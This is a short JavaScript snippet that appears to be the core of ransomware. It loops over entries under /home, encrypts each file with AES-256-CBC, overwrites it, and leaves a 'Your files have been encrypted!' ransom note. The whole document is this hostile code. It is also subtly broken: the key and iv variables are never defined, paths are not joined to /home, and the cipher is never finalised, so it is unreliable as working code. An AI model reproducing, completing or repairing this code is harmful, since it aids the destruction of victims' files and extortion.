const fs = require("fs");
const crypto = require("crypto");

for (const name of fs.readdirSync("/home")) {
  const cipher = crypto.createCipheriv("aes-256-cbc", key, iv);
  fs.writeFileSync(name, cipher.update(fs.readFileSync(name)));
}
fs.writeFileSync("README.txt", "Your files have been encrypted!");
